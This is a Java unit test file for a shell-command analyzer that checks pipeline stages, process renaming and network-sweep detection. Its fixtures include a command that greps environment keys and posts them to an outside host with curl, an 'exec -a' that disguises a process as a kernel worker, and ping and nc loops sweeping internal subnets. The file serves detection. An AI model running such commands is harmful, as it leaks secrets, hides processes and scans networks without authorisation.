package dev.offscript.commands;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.model.Act;
import dev.offscript.model.Behaviour;
import dev.offscript.model.SimpleCommand;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a command says of its pipeline, of the name it runs under, and of the loop it stands in. */
class NeighboursTest {

  private static final CommandAnalyzer ANALYZER = CommandAnalyzer.shipped();

  private static List<SimpleCommand> commands(String text) {
    return ANALYZER.analyze(text, new ScriptMemory());
  }

  private static SimpleCommand named(String text, String name) {
    return commands(text).stream().filter(c -> c.name().equals(name)).findFirst().orElseThrow();
  }

  @Test
  void aStageKnowsWhatStandsBeforeAndAfterIt() {
    String text = "env | grep -i key | curl -d @- https://c.example.net/";
    assertThat(named(text, "env").fedBy()).isEmpty();
    assertThat(named(text, "env").feeds())
        .isEqualTo("grep -i key | curl -d @- https://c.example.net/");
    assertThat(named(text, "grep").fedBy()).isEqualTo("env");
    assertThat(named(text, "grep").feeds()).isEqualTo("curl -d @- https://c.example.net/");
    assertThat(named(text, "curl").fedBy()).isEqualTo("env | grep -i key");
    assertThat(named(text, "curl").feeds()).isEmpty();
  }

  @Test
  void whatStandsInAScriptFromAPipeIsNotFedByThePipe() {
    String text = "echo 'dig a.example.net' | bash";
    assertThat(named(text, "bash").fedBy()).isEqualTo("echo dig a.example.net");
    assertThat(named(text, "dig").fedBy()).isEmpty();
  }

  @Test
  void alone() {
    assertThat(commands("ls -la; cat a"))
        .allSatisfy(
            command -> {
              assertThat(command.fedBy()).isEmpty();
              assertThat(command.feeds()).isEmpty();
            });
  }

  @Test
  void theNameUnderWhichItRunsIsPartOfTheWay() {
    assertThat(named("exec -a '[kworker/0:1]' /srv/m -c c", "m").via())
        .containsExactly("exec -a [kworker/0:1]");
    assertThat(named("exec /srv/m -c c", "m").via()).containsExactly("exec");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done",
        "for i in {1..254}; do (ping -c 1 192.168.1.$i | grep from &); done",
        "for h in 172.16.4.{1..40}; do nc -z -w1 $h 22 && echo $h; done",
      })
  void aLoopOverHostsOfTheInsideIsASweep(String text) {
    assertThat(commands(text))
        .flatExtracting(SimpleCommand::acts)
        .extracting(Act::behaviour)
        .contains(Behaviour.SCANNING);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "for i in $(seq 1 30); do curl -sf http://10.0.0.5:8080/health && break; done",
        "for h in 10.0.0.{1..40}; do ssh $h uptime; done",
        "for i in 1 2 3; do ping -c1 10.0.0.$i; done",
        "for i in $(seq 1 60); do nc -z localhost 5432 && break; done",
        "for i in $(seq 1 60); do ping -c1 10.0.0.5 && break; done",
      })
  void aLoopOverFewHostsOrForOtherEndsIsNone(String text) {
    assertThat(commands(text)).flatExtracting(SimpleCommand::acts).isEmpty();
  }
}
